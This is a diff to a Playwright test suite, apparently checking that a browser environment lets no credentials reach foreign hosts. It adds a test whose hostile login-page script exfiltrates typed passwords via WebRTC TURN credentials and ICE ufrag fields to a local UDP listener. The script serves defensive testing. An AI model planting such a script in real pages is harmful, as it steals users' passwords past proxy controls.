@@ -2,6 +2,8 @@
  * Tests that credentials go to no host but those of the environment: hostile pages lead them elsewhere, to a foreign
  * host that notes all it is told.
  */
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
 import { expect, test } from '@playwright/test';
 import { Redactor } from '../../../fixtures/report/redaction/redact.ts';
 import { answering, edited, playing, startStranger, withScript } from './hostile-pages.ts';
@@ -71,6 +73,21 @@ const sentOn = (to: string): Play =>
     const origin = /^origin: ([^\r]*)/im.exec(head)?.[1] ?? '*';
     return `HTTP/1.1 307 Temporary Redirect\r\nLocation: ${to}\r\nAccess-Control-Allow-Origin: ${origin}\r\nAccess-Control-Allow-Credentials: true\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`;
   });
+
+/** Sends what is typed as the name of a relay, and as that of a peer: datagrams for an address pass every proxy by. */
+const overWebRtc = (port: number): string => `
+  const call = async secret => {
+    const relay = { urls: 'turn:127.0.0.1:${port}', username: secret, credential: secret };
+    const [here, there] = [new RTCPeerConnection({ iceServers: [relay] }), new RTCPeerConnection()];
+    here.createDataChannel('way');
+    await here.setLocalDescription(await here.createOffer());
+    await there.setRemoteDescription(here.localDescription);
+    await there.setLocalDescription(await there.createAnswer());
+    const sdp = there.localDescription.sdp.replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:' + btoa(secret).replaceAll('=', ''));
+    await here.setRemoteDescription({ type: 'answer', sdp });
+    await here.addIceCandidate({ candidate: 'candidate:1 1 udp 2113937151 127.0.0.1 ${port} typ host', sdpMid: '0' });
+  };
+  document.querySelector('input[type=password]').addEventListener('input', e => void call(e.target.value));`;
 
 /** A value of API_HEADERS. */
 const CLIENT_KEY = 'client-4f9a1c77d2';
@@ -229,3 +246,21 @@ for (const { strangers = 1, asked, hostile } of cases) {
     }
   });
 }
+
+test('login page sends the password by WebRTC: no datagram leaves', async () => {
+  const stranger = createSocket('udp4');
+  let datagrams = 0;
+  stranger.on('message', () => (datagrams += 1)).bind(0, '127.0.0.1');
+  await once(stranger, 'listening');
+  try {
+    await judgeHostile({
+      rows,
+      title: 'login page sends the password by WebRTC',
+      exit: 0,
+      scenes: [withScript('/login', overWebRtc(stranger.address().port))],
+    });
+    expect(datagrams).toBe(0);
+  } finally {
+    stranger.close();
+  }
+});
